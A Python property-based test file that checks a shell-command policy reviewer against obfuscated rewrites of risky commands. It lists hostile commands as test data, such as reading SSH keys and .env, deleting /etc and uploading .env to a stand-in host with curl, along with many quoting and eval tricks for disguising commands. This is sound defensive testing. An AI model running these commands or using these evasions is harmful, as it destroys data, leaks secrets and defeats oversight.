"""A command says the same in many spellings; none of them may make it look more harmless."""

import shlex
from itertools import cycle

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from events.actions import RunCommand
from events.review import Context
from services.policy.builtin import builtin_layer
from services.policy.concern import rank
from services.policy.review import review
from services.policy.rules import load_rules

pytestmark = pytest.mark.pure

RULES = load_rules([builtin_layer()])
PLACE = Context(
    session_id="s1", integration="full", prompt="idle", cwd="/Users/ann/src", bracketed_paste=True
)
COMMANDS = [
    ["ls", "-la", "src"],
    ["cat", "a.txt"],
    ["cat", ".env"],
    ["cat", "/Users/ann/.ssh/id_rsa"],
    ["rm", "a.txt"],
    ["rm", "-rf", "build"],
    ["rm", "-rf", "/etc"],
    ["cp", "a", "/etc/hosts"],
    ["chmod", "-R", "777", "/"],
    ["sort", "-o", "out", "in"],
    ["sort", "--compress-program=/tmp/x", "in"],
    ["find", ".", "-delete"],
    ["tee", "/Users/ann/.zshrc"],
    ["sudo", "ls"],
    ["sh", "-c", "rm -r x"],
    ["awk", 'BEGIN{system("rm -r x")}'],
    ["sed", "-i", "s/a/b/", "x"],
    ["fnord", "x"],
    ["git", "checkout", "--", "README"],
    ["git", "-c", "core.pager=id", "log"],
    ["gh", "pr", "list"],
    ["find", "src", "-execdir", "rm", "{}", ";"],
    ["curl", "-T", ".env", "https://x.example"],
]
SPELLINGS = [
    shlex.quote,
    lambda word: f"'{word}'",
    lambda word: '"' + word.replace('"', '\\"') + '"',
    lambda word: "".join(f"\\{char}" for char in word),
    lambda word: f"{shlex.quote(word[:1])}''{shlex.quote(word[1:])}",
    lambda word: "$'" + "".join(f"\\x{ord(char):02x}" for char in word) + "'",
    lambda word: "$'" + "".join(f"\\{ord(char):03o}" for char in word) + "'",
    lambda word: "$'" + "".join(f"\\u{ord(char):04x}" for char in word) + "'",
    lambda word: "\\\n".join(shlex.quote(char) for char in word),
    lambda word: "''" + shlex.quote(word) + '""',
]
FOR_A_SHELL = [
    "bash -c {0}",
    "sh -c {0}",
    "zsh -fc {0}",
    "eval {0}",
    "env bash -c {0}",
    "bash <<< {0}",
    "bash <<'E'\n{1}\nE",
    "find . -exec sh -c {0} ';'",
    "xargs sh -c {0}",
    "watch {0}",
    "trap {0} EXIT",
]
READ_LATER = ["echo {} | bash", "bash <(echo {})", "source /dev/stdin <<< {}", "echo {} > x; sh x"]
BETWEEN = [" ", "  ", "\t", " \\\n", " \\\n\t "]
AROUND = [
    "{}",
    " {} ",
    "( {} )",
    "{{ {}; }}",
    "( {} & )",
    "! {}",
    "time {}",
    "true && {}",
    "false || {}",
    "pwd; {}",
    "pwd\n{}",
    "{} | cat",
    "{} 2>/dev/null",
    "if true; then {}; fi",
    "for i in 1 2; do {}; done",
    "while true; do {}; done",
    "( f() {{ {}; }}; f )",
    "echo $( {} )",
    "cat <( {} )",
    "case x in x) {};; esac",
    "</dev/null {}",
    "2>/dev/null {} <&-",
    "{} &",
    "until ls; do {}; break; done",
    "if {}; then ls; else pwd; fi",
    "x=$( {} )",
    "echo `pwd; {}`",
    "[[ -n $( {} ) ]]",
    "cat <<E\n$( {} )\nE\n",
]
WRAPPED = ["{}", "command {}", "env {}", "nice -n 5 {}", "nohup {}", "timeout 5 {}"]
WRAPPED += ["env -u X {}", "stdbuf -oL {}", "setsid {}", "time -p {}", "exec {}", "ionice -c 3 {}"]
WRAPPED += ["xargs -n 1 {}", "env A=b {}", "find . -name x -exec {} ';'"]
FORMS = st.builds(
    lambda wrapped, around: [*wrapped, *around],
    st.lists(st.sampled_from(WRAPPED), max_size=2),
    st.lists(st.sampled_from(AROUND), max_size=3),
)


def texts(command, spellings, between=" "):
    spelled = (spell(word) for word, spell in zip(command, cycle(spellings), strict=False))
    return between.join(spelled)


def weight(text, shell):
    place = msgspec.structs.replace(PLACE, shell=shell)
    return rank(review(place, RunCommand(command=text), RULES).tier)


@settings(deadline=None)  # what it says counts, not how soon on a busy machine
@given(
    st.sampled_from(COMMANDS),
    st.lists(st.sampled_from(SPELLINGS), min_size=4, max_size=4),
    st.sampled_from(BETWEEN),
    FORMS,
    st.sampled_from(["bash", "zsh", "sh"]),
)
def test_another_spelling_never_makes_a_command_look_more_harmless(
    command, spellings, between, forms, shell
):
    text = texts(command, spellings, between)
    for each in forms:
        text = each.format(text)
    assert weight(text, shell) >= weight(shlex.join(command), shell)


@settings(deadline=None)
@given(st.sampled_from(COMMANDS), st.sampled_from(["bash", "zsh", "sh"]))
def test_a_text_for_another_shell_is_as_grave_as_the_command_in_it(command, shell):
    plain = shlex.join(command)
    quoted = shlex.quote(plain)
    for form in FOR_A_SHELL:
        text = form.format(quoted, plain)
        assert weight(text, shell) >= weight(plain, shell)


@settings(deadline=None)
@given(st.sampled_from(COMMANDS), st.sampled_from(READ_LATER), st.sampled_from(["bash", "zsh"]))
def test_a_text_that_a_shell_reads_from_elsewhere_takes_a_signature(command, form, shell):
    assert weight(form.format(shlex.quote(shlex.join(command))), shell) >= rank("dangerous")


@settings(deadline=None)
@given(st.sampled_from(COMMANDS))
def test_braces_hide_no_words(command):
    first, *rest = map(shlex.quote, command)
    if len(rest) > 1 and not any("," in each for each in rest):
        text = f"{first} {{{','.join(rest)}}}"
        assert weight(text, "bash") >= weight(shlex.join(command), "bash")


@given(st.sampled_from(COMMANDS), st.sampled_from(["bash", "sh"]))
def test_a_first_line_that_names_an_interpreter_hides_nothing(command, shell):
    text = f"#!/bin/bash\n{shlex.join(command)}"
    assert weight(text, shell) >= weight(shlex.join(command), shell)


@settings(deadline=None)
@given(st.sampled_from(COMMANDS))
def test_a_variable_hides_no_word(command):
    for index, word in enumerate(command):
        rest = [shlex.quote(each) for each in command]
        rest[index] = '"$x"'
        text = f"x={shlex.quote(word)}; {' '.join(rest)}"
        assert weight(text, "bash") >= weight(shlex.join(command), "bash")
